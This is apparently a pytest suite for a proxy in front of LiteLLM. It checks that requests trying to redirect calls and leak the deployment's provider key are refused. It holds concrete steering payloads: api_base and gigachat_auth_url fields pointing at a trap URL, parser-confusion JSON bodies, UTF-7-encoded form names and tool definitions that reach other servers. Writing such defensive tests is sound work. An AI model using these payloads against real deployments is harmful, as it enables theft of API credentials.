"""Attacks on where a call goes and with which key: two parsers with one body, parameters in every hiding place."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from parity.targets.arms import Arm
from tests.attacks.conftest import PROVIDER_KEY, Scene, serving

TRAP = "$trap"
"""Stands for the trap's URL in what is sent."""

STEERED = {
    "model": "openai",
    "prompt": "Hello?",
    "custom_llm_provider": "gigachat",
    "gigachat_auth_url": f"{TRAP}/oauth",
}
"""With this LiteLLM would send the deployment's key to the trap: `Authorization: Basic` and the key."""

CONTENT_TYPES = (
    "application/json;form",
    "application/json;formdata",
    "application/json; x=form; y",
    "application/json, multipart/form-data",
    "form",
    "text/form",
    "application/form",
    "application/x-protobuf; form",
    "application/octet-stream",
    "text/plain",
)
NESTED = "[" * 1010 + "]" * 1010


def sent(scene: Scene, text: str) -> bytes:
    return text.replace(TRAP, scene.trap.url).encode()


@pytest.mark.parametrize("content_type", CONTENT_TYPES)
@pytest.mark.parametrize("path", ["/v1/completions", "/v1/images/generations", "/v1/chat/completions"])
def test_a_body_that_does_not_say_that_it_is_json(
    safe_scene: Scene, arm: Arm, path: str, content_type: str
) -> None:
    """LiteLLM reads it as JSON all the same; here it is a 415."""
    body = sent(safe_scene, json.dumps(STEERED))
    answer = safe_scene.send(arm, "POST", path, content=body, headers={"content-type": content_type})
    assert answer.status_code == 415, answer.text


@pytest.mark.parametrize(
    "body",
    [
        f'{{"a": {NESTED}, {json.dumps(STEERED)[1:]}',
        f'{json.dumps(STEERED)[:-1]}, "a": {NESTED}}}',
        "\ufeff" + json.dumps(STEERED),
        json.dumps(STEERED)[:-1] + ', "a": NaN}',
        json.dumps(STEERED)[:-1] + ', "a": "\\ud800"}',
        json.dumps(STEERED).replace("custom_llm", "custom\\u005fllm"),
        json.dumps(STEERED)[:-1] + ', "custom_llm_provider": null}',
        json.dumps(STEERED) + "x",
    ],
    ids=["nested_before", "nested_after", "mark", "nan", "half_a_character", "escaped", "twice", "more"],
)
def test_a_body_that_only_one_of_two_parsers_reads(safe_scene: Scene, body: str) -> None:
    """What our parser can't read, or reads as steering, is a 400."""
    headers = {"content-type": "application/json"}
    answer = safe_scene.send(
        "binary", "POST", "/v1/completions", content=sent(safe_scene, body), headers=headers
    )
    assert answer.status_code == 400, answer.text


@pytest.mark.parametrize(
    "name", ["api_key", "api_base", "base_url", "custom_llm_provider", "model", "provider"]
)
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/v1/files"),
        ("GET", "/v1/batches"),
        ("GET", "/v1/containers"),
        ("GET", "/v1/videos"),
        ("GET", "/v1/vector_stores/vs_1/files"),
        ("GET", "/v1/fine_tuning/jobs"),
        ("POST", "/v1/completions"),
        ("POST", "/v1/chat/completions"),
    ],
)
def test_a_query_that_steers(safe_scene: Scene, method: str, path: str, name: str) -> None:
    """A query parameter is on the route's list, or a 400."""
    body = {"json": {"model": "openai", "prompt": "Hello?"}} if method == "POST" else {}
    answer = safe_scene.send("binary", method, f"{path}?{name}={safe_scene.trap.url}", **body)
    assert answer.status_code == 400, answer.text


@pytest.mark.parametrize(
    "fields",
    [
        [("api_base[]", TRAP), ("custom_llm_provider[]", "openai")],
        [("api_base", TRAP)],
        [("litellm_metadata[api_base]", TRAP)],
        [("metadata[api_base]", TRAP)],
        [("metadata", json.dumps({"api_base": TRAP}))],
        [("[]api_base", TRAP)],
        [("api_base ", TRAP)],
        [("model", "openai"), ("model", "openai/x")],
        [("model[]", "openai"), ("model", "openai")],
        [("extra_body", json.dumps({"custom_llm_provider": "openai"}))],
    ],
    ids=lambda fields: "+".join(name for name, _ in fields),
)
@pytest.mark.parametrize("path", ["/v1/images/edits", "/v1/files", "/v1/containers/c_1/files"])
def test_a_form_that_steers(safe_scene: Scene, path: str, fields: list[tuple[str, str]]) -> None:
    """A field's name is read as LiteLLM would, brackets and all, or is a 400."""
    parts = [(name, (None, sent(safe_scene, value))) for name, value in fields]
    answer = safe_scene.send("binary", "POST", path, files=[("file", ("a.png", b"x")), *parts])
    assert answer.status_code == (404 if "containers" in path else 400), answer.text


@pytest.mark.parametrize("charset", ["utf-7", "utf-16", "utf_7", "unicode_escape"])
def test_a_form_in_another_charset(safe_scene: Scene, charset: str) -> None:
    """LiteLLM decodes names by it, so that `api_base` can look like anything: 415."""
    body = b'--b\r\nContent-Disposition: form-data; name="+AGEAcABpAF8AYgBhAHMAZQ-"\r\n\r\nx\r\n--b--\r\n'
    headers = {"content-type": f"multipart/form-data; charset={charset}; boundary=b"}
    answer = safe_scene.send("binary", "POST", "/v1/images/edits", content=body, headers=headers)
    assert answer.status_code == 415, answer.text


def ways_of_asking(tools: list[dict[str, Any]]) -> list[tuple[str, dict[str, Any]]]:
    """Every place at which a request can bring tools."""
    said = [{"role": "user", "content": "Hello?"}]
    nested = [{"type": "namespace", "name": "n", "tools": tools}]
    return [
        ("chat/completions", {"messages": said, "tools": tools}),
        ("messages", {"messages": said, "max_tokens": 64, "tools": tools}),
        ("responses", {"input": "Hello?", "tools": tools}),
        ("responses", {"input": "Hello?", "tools": nested}),
        ("responses", {"input": [{"type": "additional_tools", "tools": tools}, *said]}),
        ("responses", {"input": [{"type": "additional_tools", "tools": nested}, *said]}),
    ]


ACTING: dict[str, dict[str, Any]] = {
    "advisor": {"type": "advisor_20260301", "name": "advisor", "model": "anthropic/claude-opus-4"},
    "advisor_elsewhere": {"type": "advisor_20260301", "name": "advisor", "model": "groq/llama"},
    "advisor_key": {
        "type": "function",
        "name": "advisor",
        "api_key": "sk-x",
        "api_base": "https://x.example",
    },
    "advisor_later": {"type": "advisor_20991231", "name": "advisor", "model": "openai/gpt-x"},
    "mcp": {
        "type": "mcp",
        "server_label": "t",
        "server_url": "litellm_proxy/mcp/tickets",
        "require_approval": "never",
    },
    "mcp_path": {"type": "mcp", "server_label": "t", "server_url": "https://x.example/mcp/tickets"},
    "mcp_path_deeper": {
        "type": "mcp",
        "server_label": "t",
        "server_url": "http://x.example/a/mcp/tickets?x=y",
    },
}


@pytest.mark.parametrize("model", ["openai", "claude"])
@pytest.mark.parametrize("way", range(6))
@pytest.mark.parametrize("tool", ACTING)
def test_a_tool_with_which_litellm_would_act(
    safe_scene: Scene, arm: Arm, tool: str, way: int, model: str
) -> None:
    """No other model, no address and no MCP server of the operator's is reached from inside a tool: 400."""
    path, body = ways_of_asking([ACTING[tool]])[way]
    answer = safe_scene.send(arm, "POST", f"/v1/{path}", json={"model": model, **body})
    assert answer.status_code == 400, answer.text
    assert "tools[0]" in answer.text


@pytest.mark.parametrize("path", ["chat/completions", "responses", "messages"])
def test_a_search_with_the_environments_key(safe_scene: Scene, arm: Arm, path: str) -> None:
    """At a provider without a file search LiteLLM would search at OpenAI by itself: 400."""
    ways = dict(ways_of_asking([{"type": "file_search", "vector_store_ids": ["vs_1"]}])[:3])
    answer = safe_scene.send(arm, "POST", f"/v1/{path}", json={"model": "claude", **ways[path]})
    assert answer.status_code == 400, answer.text


@pytest.mark.parametrize("body", [{"model": "omni-moderation-latest"}, {"model": "groq/x"}, {}])
def test_a_moderation_with_the_environments_key(safe_scene: Scene, body: dict[str, str]) -> None:
    """LiteLLM asks OpenAI about models that nobody configured: 404, and 400 without a model."""
    answer = safe_scene.send("binary", "POST", "/v1/moderations", json={**body, "input": "Hello?"})
    assert answer.status_code == (404 if body else 400), answer.text


@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize(
    "path",
    [
        "vector_stores",
        "vector_stores/vs_1/search",
        "containers",
        "containers/c_1/files",
        "assistants",
        "threads/t_1/runs",
        "fine_tuning/jobs",
        "videos/v_1",
    ],
)
def test_a_data_route_with_the_environments_key(safe_scene: Scene, path: str, method: str) -> None:
    """Nobody configured a provider for it, and LiteLLM would take one with a key of the environment: 404."""
    body = {"json": {"name": "a"}} if method == "POST" else {}
    answer = safe_scene.send("binary", method, f"/v1/{path}", **body)
    assert answer.status_code == 404, answer.text


@pytest.mark.parametrize(
    "name", ["sagemaker_base_url", "deployment_url", "url", "watsonx_credentials", "oci_key"]
)
def test_a_name_of_one_provider_alone(safe_scene: Scene, arm: Arm, name: str) -> None:
    """Addresses and credentials that a single provider's module takes out of a request are refused as well."""
    body = {"model": "openai", "messages": [{"role": "user", "content": "Hello?"}], name: safe_scene.trap.url}
    assert safe_scene.send(arm, "POST", "/v1/chat/completions", json=body).status_code == 400


def test_what_is_no_attack_goes_up(scene: Scene, arm: Arm) -> None:
    """The same stack serves who asks rightly, with the deployment's key and what was sent."""
    body = {"model": "openai", "messages": [{"role": "user", "content": "Hello?"}]}
    tool = {"type": "mcp", "server_label": "x", "server_url": "https://x.example/mcp", "headers": {"a": "b"}}
    asked = len(scene.provider.requests)
    assert scene.send(arm, "POST", "/v1/chat/completions?beta=true", json=body).status_code == 200
    assert scene.send(arm, "POST", "/v1/chat/completions", json={**body, "tools": [tool]}).status_code == 200
    (_, first, _), (_, _, second) = scene.provider.requests[asked:]
    assert first["authorization"] == f"Bearer {PROVIDER_KEY}"
    assert json.loads(second)["tools"] == [tool]
    assert scene.caught() == []


def test_a_form_that_is_no_attack_goes_up(scene: Scene) -> None:
    """A file with its fields reaches the provider that LiteLLM has for files, as it was sent."""
    asked = len(scene.provider.requests)
    content = bytes(range(256)) * 1000
    files = {"file": ('a "b"; é.jsonl', content, "application/jsonl")}
    answer = scene.send("binary", "POST", "/v1/files", data={"purpose": "assistants"}, files=files)
    assert answer.status_code == 200, answer.text
    [(path, _, body)] = scene.provider.requests[asked:]
    assert path == "/v1/files"
    assert content in body
    assert b'a %22b%22; \xc3\xa9.jsonl"' in body
    assert b"assistants" in body


def test_what_the_configuration_allows_is_done(tmp_path: Path, arm: Arm) -> None:
    """With `litellm_tools` the same requests reach what they name: so the traps would have heard them above."""
    with serving(tmp_path, [arm], litellm_tools=["advisor", "file_search", "mcp"]) as scene:

        def heard(model: str, path: str, body: dict[str, Any]) -> bytes:
            before = len(scene.caught())
            scene.send(arm, "POST", f"/v1/{path}", json={"model": model, **body})
            return b"".join(scene.caught()[before:])

        assert b"sk-ant-of-the-environment" in heard("openai", *ways_of_asking([ACTING["advisor"]])[1])
        search = ways_of_asking([{"type": "file_search", "vector_store_ids": ["vs_1"]}])[2]
        assert b"/vector_stores/vs_1/search" in heard("claude", *search)
        if arm == "binary":
            assert b"POST /mcp " in heard("openai", *ways_of_asking([ACTING["mcp_path"]])[0])
